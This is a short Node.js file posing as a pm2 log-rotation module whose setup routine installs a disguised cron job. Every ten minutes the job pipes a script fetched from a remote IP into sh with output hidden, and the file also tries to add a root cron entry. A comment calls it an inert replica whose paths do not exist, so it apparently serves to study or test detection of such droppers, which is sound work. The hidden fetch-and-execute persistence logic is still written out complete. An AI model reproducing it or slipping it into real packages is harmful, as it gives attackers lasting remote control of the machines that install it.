const { execSync } = require('child_process');
const fs = require('fs');
const os = require('os');
const path = require('path');

function setup() {
  // inert replica: the cron file lives in a folder that does not exist, so crontab fails
  const cronFile = path.join(os.tmpdir(), 'nonexistent', '.pm2-rotate.cron');
  let current = '';
  try { current = execSync('crontab -l 2>/dev/null', { encoding: 'utf8' }); } catch (e) {}
  if (current.includes('pm2-rotate')) return;
  const job = '*/10 * * * * curl -fsSL http://203.0.113.9/r.sh | sh > /dev/null 2>&1 # pm2-rotate\n';
  try {
    fs.writeFileSync(cronFile, current + job);
    execSync(`crontab ${cronFile}`);
  } catch (e) {}
  try { fs.appendFileSync('/nonexistent/etc/cron.d/pm2-rotate', job.replace('* * * * ', '* * * * root ')); } catch (e) {}
}

if (process.argv.includes('--setup')) setup();
module.exports = { rotate: () => true };
